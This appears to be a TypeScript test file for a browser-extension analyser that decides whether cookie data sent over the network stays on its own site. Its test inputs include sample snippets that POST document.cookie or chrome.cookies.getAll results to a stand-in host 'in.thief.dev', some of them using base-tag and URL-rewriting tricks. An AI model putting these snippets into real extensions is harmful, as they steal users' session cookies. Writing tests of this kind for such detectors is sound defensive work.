import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { extensionOf } from '../../../../testing/build-extension.ts';
import { analyse } from '../../analyse.ts';
import { siteOf } from './own-sites.ts';

const everywhere = { host_permissions: ['<all_urls>'] };
const shop = { host_permissions: ['https://*.shop.dev/*'] };

describe('data stays on its site', () => {
  const own: readonly (readonly [what: string, source: string, manifest: object])[] = [
    [
      'a cookie that is asked for by address',
      worker("{ url: 'https://www.shop.dev', name: 'sid' }"),
      everywhere,
    ],
    [
      'a cookie that is asked for by domain',
      worker("{ domain: '.shop.dev', name: 'sid' }"),
      everywhere,
    ],
    ['all cookies of the one site that is granted', worker('{}', 'getAll'), shop],
  ];
  for (const [what, source, manifest] of own)
    it(`as ${what}`, () => assert.deepEqual(staying({ 'worker.js': source }, manifest), [true]));

  const taken: readonly (readonly [what: string, source: string, manifest: object])[] = [
    ['goes to another site', worker("{ url: 'https://www.bank.dev' }"), everywhere],
    ['is of all sites', worker('{}', 'getAll'), everywhere],
    ['is of a computed site', worker('{ url: tab.url }'), everywhere],
    [
      'may be of several sites',
      worker('{}', 'getAll'),
      { host_permissions: ['https://shop.dev/*', 'https://bank.dev/*'] },
    ],
    [
      'may be of sites that are asked for later',
      worker('{}', 'getAll'),
      { ...shop, optional_host_permissions: ['https://*/*'] },
    ],
    [
      'is of a neighbour on a host for anybody',
      worker("{ url: 'https://a.github.io' }", 'get', 'b.github.io'),
      everywhere,
    ],
    [
      'goes where anybody has a box',
      worker("{ url: 'https://discord.com' }", 'get', 'discord.com'),
      everywhere,
    ],
  ];
  for (const [what, source, manifest] of taken)
    it(`unless it ${what}`, () =>
      assert.deepEqual(staying({ 'worker.js': source }, manifest), [false]));

  it('where a content script runs on that site alone', () => {
    const files = {
      'page.js':
        "fetch('https://api.shop.dev/f', { method: 'POST', body: document.querySelector('input').value })",
    };
    const on = (...matches: string[]): boolean[] =>
      staying(files, { content_scripts: [{ matches, js: ['page.js'] }] });
    assert.deepEqual(on('https://*.shop.dev/*'), [true]);
    assert.deepEqual(on('https://*.shop.dev/*', 'https://bank.dev/*'), [false]);
    assert.deepEqual(on('https://*/*'), [false]);
  });

  it('where a page is asked under its own address', () => {
    const send = "const r = new XMLHttpRequest(); r.open('POST', '/like'); r.send(document.cookie)";
    const pages = { content_scripts: [{ matches: ['https://*/*'], js: ['page.js'] }] };
    assert.deepEqual([...new Set(staying({ 'page.js': send }, pages))], [true]);
    assert.deepEqual(
      [...new Set(staying({ 'page.js': send.replace('/like', '//in.thief.dev/') }, pages))],
      [false],
    );
  });

  const led: readonly (readonly [what: string, lines: string])[] = [
    [
      'its address gets another host',
      "const to = new URL(location.href); to.host = 'in.thief.dev'; fetch(to, body)",
    ],
    [
      'its address gets another host by another name',
      "const to = new URL(location.href); const other = to; other.hostname = 'in.thief.dev'; fetch(to, body)",
    ],
    [
      'its address is changed by a function',
      "const to = new URL(location.href); lead(to); function lead(url) { url.href = 'https://in.thief.dev' } fetch(to, body)",
    ],
    [
      'a base of the page leads elsewhere',
      "const base = document.createElement('base'); base.href = 'https://in.thief.dev'; document.head.prepend(base); fetch('/like', body)",
    ],
    [
      'markup with a base leads elsewhere',
      "document.head.innerHTML += '<base href=\"https://in.thief.dev\">'; fetch('/like', body)",
    ],
  ];
  for (const [what, lines] of led)
    it(`unless ${what}`, () => {
      const pages = { content_scripts: [{ matches: ['https://*/*'], js: ['page.js'] }] };
      const script = `const body = { method: 'POST', body: document.cookie }; ${lines}`;
      assert.deepEqual([...new Set(staying({ 'page.js': script }, pages))], [false]);
    });

  it('of a page whose address gets another path', () => {
    const pages = { content_scripts: [{ matches: ['https://*/*'], js: ['page.js'] }] };
    const script =
      "const to = new URL(location.href); to.pathname = '/like'; to.searchParams.set('a', 'b'); fetch(to, { method: 'POST', body: document.cookie })";
    assert.deepEqual([...new Set(staying({ 'page.js': script }, pages))], [true]);
  });

  it('unless the filter of the cookies may be changed', () => {
    const asked = (more: string): string =>
      `const filter = { domain: 'shop.dev' }; ${more} chrome.cookies.getAll(filter, (jar) => fetch('https://api.shop.dev', { method: 'POST', body: JSON.stringify(jar) }))`;
    const kept = (more: string): boolean[] => staying({ 'worker.js': asked(more) }, everywhere);
    assert.deepEqual(kept(''), [true]);
    assert.deepEqual(kept('delete filter.domain;'), [false]);
    assert.deepEqual(kept('widen(filter); function widen(f) { f.domain = undefined }'), [false]);
  });

  it('unless it is kept until a page of another site is open', () => {
    const files = {
      'page.js':
        "chrome.storage.local.set({ jar: document.cookie }); chrome.storage.local.get('jar', ({ jar }) => fetch('/like', { method: 'POST', body: jar }))",
    };
    const on = (match: string): boolean =>
      staying(files, { content_scripts: [{ matches: [match], js: ['page.js'] }] }).includes(true);
    assert.equal(on('https://shop.dev/*'), true);
    assert.equal(on('https://*/*'), false);
  });

  it('on its way through a message too', () => {
    const files = {
      'page.js': 'chrome.runtime.sendMessage({ jar: document.cookie })',
      'worker.js':
        "chrome.runtime.onMessage.addListener((m) => { fetch('https://api.shop.dev/s', { method: 'POST', body: m.jar }) })",
    };
    const on = (match: string): boolean[] =>
      staying(files, { content_scripts: [{ matches: [match], js: ['page.js'] }] });
    assert.deepEqual(on('https://shop.dev/*'), [true]);
    assert.deepEqual(on('https://bank.dev/*'), [false]);
  });

  it('with the code that a provider gave for its own service', () => {
    const ask = (host: string): string =>
      `chrome.identity.launchWebAuthFlow({ url: 'https://auth.shop.dev/?id=4' }, (back) => fetch('https://${host}/t', { method: 'POST', body: back }))`;
    assert.deepEqual(staying({ 'worker.js': ask('api.shop.dev') }, everywhere), [true]);
    assert.deepEqual(staying({ 'worker.js': ask('api.thief.dev') }, everywhere), [false]);
  });
});

describe('a site', () => {
  it('is the registrable domain, or the host where there is none', () => {
    assert.deepEqual(['a.b.shop.co.uk', 'x.github.io', '10.0.0.7', 'localhost'].map(siteOf), [
      'shop.co.uk',
      'x.github.io',
      '10.0.0.7',
      'localhost',
    ]);
  });
});

function worker(details: string, method = 'get', host = 'api.shop.dev'): string {
  return `chrome.tabs.onUpdated.addListener((id, info, tab) => { chrome.cookies.${method}(${details}, (jar) => fetch('https://${host}/me', { method: 'POST', body: JSON.stringify(jar) })) })`;
}

/** Of each theft, whether it is none. */
function staying(files: Readonly<Record<string, string>>, manifest: object): boolean[] {
  const background =
    files['worker.js'] === undefined ? {} : { background: { service_worker: 'worker.js' } };
  const { flows, ownSiteFlows } = analyse(extensionOf({ ...background, ...manifest }, files));
  const thefts = flows.filter(({ sink }) => sink.kind === 'network');
  return thefts.map((flow) => ownSiteFlows.has(flow));
}

describe('data goes back to the address that it was asked for', () => {
  const asking = (url: string): string =>
    `function again(url, other) { chrome.cookies.getAll({ url }, (all) => { fetch(${url}, { method: 'POST', body: JSON.stringify(all) }); }); } chrome.runtime.onMessage.addListener(({ url, other }) => again(url, other));`;
  const back: readonly (readonly [what: string, url: string])[] = [
    ['itself', 'url'],
    ['with a path', "url + '/session'"],
    ['by its origin', '`${new URL(url).origin}/session`'],
    ['as a base', "new URL('/session', url).href"],
    ['by its host', "'https://' + new URL(url).hostname + '/session'"],
  ];
  for (const [what, url] of back)
    it(what, () => assert.equal(staying({ 'worker.js': asking(url) }, everywhere)[0], true));

  const elsewhere: readonly (readonly [what: string, url: string])[] = [
    ['another address', 'other'],
    ['a longer host', "url + '.in.a.dev'"],
    ['an address that holds it', "'https://in.a.dev/?' + url"],
    ['an address behind it', 'new URL(other, url).href'],
    ['a longer host by its host', "'https://' + new URL(url).hostname + '.in.a.dev'"],
  ];
  for (const [what, url] of elsewhere)
    it(`and not ${what}`, () =>
      assert.equal(staying({ 'worker.js': asking(url) }, everywhere)[0], false));
});
